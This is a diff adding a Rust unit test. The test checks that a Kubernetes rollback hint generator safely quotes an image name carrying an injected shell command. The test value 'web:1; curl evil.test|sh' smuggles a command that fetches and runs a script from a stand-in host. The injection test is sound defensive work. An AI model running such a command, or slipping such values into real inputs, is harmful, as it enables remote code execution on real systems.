@@ -68,6 +68,16 @@ mod tests {
             "meanwhile what ran before still serves; to go back to it: `kubectl rollout undo deployment/web --to-revision=4`",
             "the image alone would not go back"
         );
+        let hostile = Earlier {
+            revision: 4,
+            image: "web:1; curl evil.test|sh".into(),
+        };
+        newer.port = settings.port;
+        assert!(
+            hint(&hostile, "web", &settings, &newer, None)
+                .ends_with("`kubectl deploy-app web --image 'web:1; curl evil.test|sh'`")
+        );
+        newer.port = Some(9000);
         newer.env.insert("A".into(), "other".into());
         assert_eq!(
             hint(&earlier, "web", &settings, &newer, None),
